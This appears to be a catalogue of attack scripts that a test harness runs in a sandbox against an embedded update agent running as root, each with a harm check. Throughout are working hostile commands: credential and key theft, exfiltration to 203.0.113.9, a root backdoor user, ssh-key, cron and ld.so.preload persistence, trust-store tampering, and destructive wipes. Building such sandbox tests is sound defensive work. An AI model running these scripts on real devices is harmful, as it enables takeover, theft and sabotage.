# The attacks of the zoo as scripts that an update brings and an agent runs as root. Read by `cargo xtask torture --only
# scripts`, which runs each by itself (cage.sh). Three lines around each script:
#   #: attack of the catalogue | the zoo's member that does the same, or `fence`, or `floor` | what it does
#   #? whether harm was done: a test, run afterwards in the same device
#   #! what the harm is
# In the test: CODE is the agent's status, NEVER is yes where the cage had to end it, OUT is what it said.

#: A1 | SpinsInACall | loops for ever
while :; do :; done
#? [ "$NEVER" = yes ]
#! the update never ends, and no other begins

#: A1 | AsksForEver | asks for the time for ever
while :; do date > /dev/null; done
#? [ "$NEVER" = yes ]
#! the update never ends

#: A1 | SpinsAfterItsAnswer | loops after it has answered
setsid sh -c 'echo $$ > /run/spins; while :; do :; done' > /dev/null 2>&1 < /dev/null &
exit 0
#? kill -0 "$(cat /run/spins)"
#! the update is told as well, and the loop goes on as root

#: A1 | CallsWithoutLoop | calls itself without a loop
f() { [ "$1" = 0 ] || { f $(($1 - 1)); f $(($1 - 1)); }; }
f 60
#? [ "$NEVER" = yes ]
#! the update never ends

#: A1 | SpinsWhileGivenArguments | takes the processor from all others
chrt -f 50 sh -c 'echo $$ > /run/spins; i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done; chrt -p $$ > /run/priority' > /dev/null 2>&1
#? grep -q SCHED_FIFO /run/priority
#! it ran before every other process of the device, the agent's included

#: A2 | SpinsAtStart | loops before the update begins (preinst)
[ "$1" != preinst ] || while :; do :; done
#? [ "$NEVER" = yes ]
#! the update never begins

#: A2 | TrapsAtStart | fails when it starts
exit 1
#? [ "$CODE" = 0 ]
#! a failed script counts as an update

#: A3 | Hoards | takes memory, 200 MB
perl -e 'my $x = "x" x 200000000; open(F, ">/run/took"); print F length $x; close F'
#? [ "$(cat /run/took)" = 200000000 ]
#! nothing of the agent's stops it; the kernel would end whoever it finds

#: A3 | Grows | fills the memory that is shared as files
head -c 20000000 /dev/zero > /tmp/memory
#? [ "$(wc -c < /tmp/memory)" = 20000000 ]
#! 20 MB stay taken after the update

#: A5 | Recurses | recurses without an end
f() { f; }
f
#? [ "$CODE" = 0 ] || [ "$NEVER" = yes ]
#! the shell's stack

#: A6 | MakesHandles | opens 500 files and keeps them
setsid perl -e 'my @h; for (1..500) { open(my $f, "<", "/dev/null") or last; push @h, $f } open(F, ">/run/handles"); print F "$$\n"; close F; sleep 60' > /dev/null 2>&1 < /dev/null &
sleep 0.3
#? [ "$(ls /proc/$(cat /run/handles)/fd | wc -l)" -ge 500 ]
#! they stay open after the update

#: A7 | AnswersTwentyMegabytes | answers with 5 MB
head -c 5000000 /dev/zero | tr '\0' x >&2
#? [ "$(wc -c < $OUT)" -gt 4000000 ] || [ "$NEVER" = yes ]
#! all of it goes into the agent's log, or the agent is still busy with it

#: A7 | AnswersNoText | answers with bytes that are no text
printf '\377\376\033[2J\033[31m\n' >&2
#? grep -q "$(printf '\033\\[2J')" $OUT
#! the log has them as they are: they clear the reader's screen

#: A7 | Exits | ends the agent's waiting by a signal to itself
kill -9 $$
#? [ "$CODE" = 0 ]
#! a killed script counts as an update

#: A8 | SpinsInACall | forks, 200 processes (and stops there)
i=0
while [ $i -lt 200 ]; do setsid sleep 60 > /dev/null 2>&1 < /dev/null & i=$((i + 1)); done
#? [ "$(ls -d /proc/[0-9]* | wc -l)" -ge 200 ]
#! 200 processes outlive the update; nobody counts them

#: A9 | FileWithoutEnd | unpacks 30 MB out of 30 kB
head -c 30000000 /dev/zero | gzip -9 | gunzip > /data/bomb
#? [ "$(wc -c < /data/bomb)" = 30000000 ]
#! they are on the disk

#: A10 | Half | breaks off in the middle
echo 'image 9.9.9' > /etc/sw-versions
if [ -f /etc/device/key
#? grep -q 9.9.9 /etc/sw-versions
#! what stands before the break was done, and stays

#: A10 | Nothing | is empty
#? [ "$CODE" != 0 ]
#! an empty script fails the update

#: A11 | TrapsAtStart | begins itself anew whenever it ends
cat > /opt/again <<'X'
#!/bin/sh
echo again >> /run/again
sleep 0.05
exec setsid /opt/again
X
chmod 755 /opt/again
setsid /opt/again > /dev/null 2>&1 < /dev/null &
sleep 0.5
#? [ "$(wc -l < /run/again)" -ge 3 ]
#! it goes on after the update, for ever

#: A12 | ReadsClocks | reads the finest clock
perl -MTime::HiRes=clock_gettime,CLOCK_MONOTONIC -e 'my %s; $s{int(clock_gettime(CLOCK_MONOTONIC)*1e6)}=1 for 1..20000; print scalar(keys %s), "\n"' > /run/steps
#? [ "$(cat /run/steps)" -gt 200 ]
#! it measures microseconds, which is what side channels are measured with

#: B1 | Sleeps | sleeps for an hour
sleep 3600
#? [ "$NEVER" = yes ]
#! the update never ends

#: B1 | WaitsForTheHub | waits for something that never comes
mkfifo /tmp/never
cat /tmp/never
#? [ "$NEVER" = yes ]
#! the update never ends

#: B3 | FloodsTheLog | writes 20,000 lines
seq 1 20000 >&2
#? [ "$(wc -l < $OUT)" -gt 19000 ]
#! all of them are in the agent's log

#: B3 | ForgesLines | writes what looks like a line of the agent
printf '\n[INFO ] : SWUPDATE successful ! by nobody !\n' >&2
exit 1
#? grep -q 'SWUPDATE successful ! by nobody' $OUT
#! the log tells of a success that there was not

#: B3 | fence | deletes the device's log
: > /var/log/syslog
#? [ ! -s /var/log/syslog ]
#! it is empty

#: B4 | FillsItsStore | fills the disk
head -c 60000000 /dev/zero > /data/all
exit 0
#? ! head -c 10000000 /dev/zero > /data/more
#! nobody else can write any more

#: B4 | HasManyKeys | makes 5,000 files
i=0
while [ $i -lt 5000 ]; do : > /data/$i; i=$((i + 1)); done
#? [ "$(ls /data | wc -l)" -ge 5000 ]
#! they stay

#: B4 | WritesForEver | writes the same block 2,000 times, flushed, to wear the flash
i=0
while [ $i -lt 2000 ]; do echo x; i=$((i + 1)); done | dd of=/data/block bs=2 conv=notrunc oflag=dsync 2>&1 | grep -c copied > /run/worn
#? [ "$(cat /run/worn)" = 1 ]
#! each write went to the disk, uncounted

#: B4 | WearsFlashOut | writes the spare slot 20 times
i=0
while [ $i -lt 20 ]; do head -c 65536 /dev/urandom | dd of=/slots/b.img conv=notrunc,fsync 2> /dev/null || exit 1; i=$((i + 1)); done
echo $i > /run/worn
#? [ "$(cat /run/worn)" = 20 ]
#! each write went through, uncounted

#: B4 | DownloadsForEver | asks a server 10 times
i=0
while [ $i -lt 10 ]; do curl -s -o /dev/null http://169.254.169.254/; i=$((i + 1)); done
#? [ "$(wc -l < /run/asked-metadata)" -ge 10 ]
#! each went through, uncounted

#: B5 | LooksOutside | reads the device's key
cat /etc/device/key > /tmp/loot
#? grep -q s3cret /tmp/loot
#! the key is read

#: B5 | LooksOutside | reads the password file
cat /etc/shadow > /tmp/loot
#? grep -q s3cret /tmp/loot
#! it is read

#: B5 | LooksOutside | reads the variables of the agent
tr '\0' '\n' < /proc/$PPID/environ > /tmp/loot; env >> /tmp/loot
#? grep -q DEVICE_TOKEN=s3cret /tmp/loot
#! a token that the agent was started with is read

#: B5 | LooksOutside | reads the memory of another process
pid=$(cat /run/neighbour.pid)
start=$(grep -m1 heap /proc/$pid/maps | cut -d- -f1)
dd if=/proc/$pid/mem bs=1 skip=$((0x$start)) count=64 of=/tmp/loot 2> /dev/null
#? [ "$(wc -c < /tmp/loot)" = 64 ]
#! keys in the memory of any process can be read

#: B5 | KeysThatArePaths | writes through a path with ..
echo forged > /tmp/../data/other/../other/state
#? grep -q forged /data/other/state
#! another component's state is changed

#: B5 | SlotsThatArePaths | lays a link where another will write
ln -sf /etc/passwd /tmp/report
echo 'evil::0:0::/root:/bin/sh' >> /tmp/report
#? grep -q evil /etc/passwd
#! a user with all rights is added

#: B5 | fence | takes over a program of all users
printf '#!/bin/sh\necho taken\n' > /opt/agent
#? grep -q taken /opt/agent
#! the agent's own program is another

#: B6 | FetchesFromAnywhere | asks the cloud's metadata service for a token
curl -s http://169.254.169.254/latest/meta-data/token > /tmp/loot
#? grep -q s3cret-token /tmp/loot
#! it has the token

#: B6 | Connects | sends the key to somebody outside
perl -MIO::Socket::INET -e 'my $c = IO::Socket::INET->new("203.0.113.9:443") or exit 1; open(F, "/etc/device/key"); print $c <F>; close $c'
sleep 0.2
#? grep -q s3cret /run/collected
#! it was received

#: B6 | Connects | speaks to a controller of the plant
perl -MIO::Socket::INET -e 'my $c = IO::Socket::INET->new("192.168.1.20:502") or exit 1; print $c "write coil 1 on\n"; close $c'
sleep 0.2
#? grep -q 'coil 1 on' /run/controller
#! the controller got the order

#: B6 | FetchesFromAnywhere | opens a port and waits for orders
setsid perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(LocalPort => 4444, Listen => 1, ReuseAddr => 1) or exit; open(F, ">/run/open"); close F; sleep 60' > /dev/null 2>&1 < /dev/null &
sleep 0.3
#? [ -e /run/open ] && grep -q ':115C ' /proc/net/tcp
#! it stays open after the update

#: B6 | Connects | reads what passes on the network (raw socket)
perl -e 'socket(S, 17, 3, 0x0300) or exit 1; open(F, ">/run/raw"); close F'
#? [ -e /run/raw ]
#! a raw socket is given

#: B6 | FetchesFromAnywhere | changes where names lead
echo 'nameserver 203.0.113.9' > /etc/resolv.conf
echo '203.0.113.9 updates.example.com' >> /etc/hosts
#? grep -q 203.0.113.9 /etc/resolv.conf && grep -q updates.example.com /etc/hosts
#! all names of the device lead where the script says

#: B6 | Connects | changes the routes and addresses
ip route add blackhole 198.51.100.0/24
#? ip route | grep -q 198.51.100.0
#! a network is out of reach for the whole device

#: B9 | ReportsForOthers | writes the state of another component
echo forged > /data/other/state
#? grep -q forged /data/other/state
#! it is changed

#: B9 | SpeaksAsTheHost | speaks in the agent's name
swupdate-progress -h > /dev/null 2>&1
for socket in /tmp/sockinstctrl /tmp/swupdateprog; do [ -S $socket ] && echo $socket >> /run/sockets; done
true
#? [ -s /run/sockets ]
#! the agent's control sockets are open to it

#: B9 | HostsProperties | says that another version runs
echo 'image 9.9.9' > /etc/sw-versions
#? grep -q 9.9.9 /etc/sw-versions
#! that is what the agent reports and compares from now on

#: B10 | RunningSlot | writes the slot that runs
dd if=/dev/zero of=/slots/a.img bs=4096 count=4 conv=notrunc 2> /dev/null
#? [ "$(sha256sum /slots/a.img | cut -d' ' -f1)" != "$BEFORE_A" ]
#! the image that runs is another

#: B10 | NoJob | deletes both slots
rm -f /slots/a.img /slots/b.img
#? [ ! -e /slots/a.img ] && [ ! -e /slots/b.img ]
#! the device does not boot again

#: B11 | ForgesAHandle | uses what the agent left open
for link in /proc/self/fd/*; do case $link in */0 | */1 | */2) ;; *) readlink $link ;; esac; done | grep -v /proc > /run/inherited || true
#? [ -s /run/inherited ]
#! descriptors of the agent are open in the script

#: B11 | ForeignJob | ends the agent
kill -9 $PPID
#? [ "$CODE" != 0 ] && [ "$NEVER" = no ]
#! the agent is gone in the middle of an update

#: B12 | floor | goes back to an old version
echo 'image 1.0.0' > /etc/sw-versions
#? grep -q 'image 1.0.0' /etc/sw-versions
#! the agent takes every version since from now on

#: B13 | Unvouched | boots a slot that nobody vouches for
echo 'bootslot=b good=1 trial=0' > /boot/uboot.env
#? [ "$(sha256sum /boot/uboot.env | cut -d' ' -f1)" != "$BEFORE_BOOT" ] && grep -q 'bootslot=b good=1' /boot/uboot.env
#! the spare slot boots for good, without a trial

#: B14 | Executable | brings native code
cp /usr/bin/true /opt/native && chmod 4755 /opt/native && /opt/native && echo ran > /run/native
#? grep -q ran /run/native && [ -u /opt/native ]
#! it runs as root, and for every user from now on

#: B15 | fence | changes whom the agent trusts
openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=attacker -keyout /dev/null -out /etc/swupdate/trusted.pem 2> /dev/null
#? openssl x509 -in /etc/swupdate/trusted.pem -noout -subject | grep -q attacker
#! the next updates are the attacker's

#: B15 | fence | turns the agent's checks off
sed -i 's/public-key-file.*/public-key-file = "\/dev\/null";/' /etc/swupdate/swupdate.cfg
#? grep -q /dev/null /etc/swupdate/swupdate.cfg
#! its configuration is changed

#: B16 | NotGranted | mounts over a directory
mount -t tmpfs none /var/log 2> /dev/null && echo mine > /var/log/syslog
#? grep -q mine /var/log/syslog
#! what the device has there is hidden

#: B16 | UnknownImport | traces another process
perl -e 'my $p = `cat /run/neighbour.pid`; exit 1 if syscall(101, 16, $p+0, 0, 0) != 0; open(F, ">/run/traced"); close F; syscall(101, 17, $p+0, 0, 0)'
#? [ -e /run/traced ]
#! it can change the memory of any process

#: B17 | HostsMethods | takes the agent's control socket away
rm -f /tmp/sockinstctrl /tmp/swupdateprog && echo gone > /run/gone
#? grep -q gone /run/gone && [ ! -S /tmp/sockinstctrl ]
#! nobody can order an update any more

#: B18 | fence | stops its neighbour
kill -STOP "$(cat /run/neighbour.pid)"
#? grep -q '^State:.*T' /proc/$(cat /run/neighbour.pid)/status
#! it does not answer any more

#: B18 | fence | ends all other processes
kill -9 -1
#? ! kill -0 "$(cat /run/neighbour.pid)" 2> /dev/null
#! agent and neighbour are gone

#: B18 | fence | comes back every minute (cron)
echo '* * * * * root /opt/again' > /etc/cron.d/again
#? grep -q again /etc/cron.d/again
#! it is there

#: B18 | fence | comes back at each start (a unit)
printf '[Service]\nExecStart=/opt/again\n' > /etc/systemd/system/again.service
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s ../again.service /etc/systemd/system/multi-user.target.wants/
#? [ -L /etc/systemd/system/multi-user.target.wants/again.service ]
#! it is there

#: B18 | fence | is loaded into every program
echo /opt/evil.so > /etc/ld.so.preload
#? grep -q evil /etc/ld.so.preload
#! it is there

#: B18 | fence | opens a door for itself (ssh)
echo 'ssh-ed25519 AAAA attacker' > /root/.ssh/authorized_keys
#? grep -q attacker /root/.ssh/authorized_keys
#! it is there

#: B18 | fence | deletes what the device has stored
rm -rf /data
#? [ ! -e /data/other/state ]
#! it is gone

#: B18 | fence | makes its files unremovable for whoever cleans up
mkdir -p /opt/stay && mount -t tmpfs -o ro none /opt/stay
#? ! rm -rf /opt/stay 2> /dev/null
#! they stay

#: B18 | fence | has the kernel end the agent first when memory is short
echo 1000 > /proc/$PPID/oom_score_adj && cat /proc/$PPID/oom_score_adj > /run/score
#? [ "$(cat /run/score)" = 1000 ]
#! the agent is the first to be ended

#: B18 | fence | takes the name of the device
hostname attacker
#? [ "$(hostname)" = attacker ]
#! the device has another name
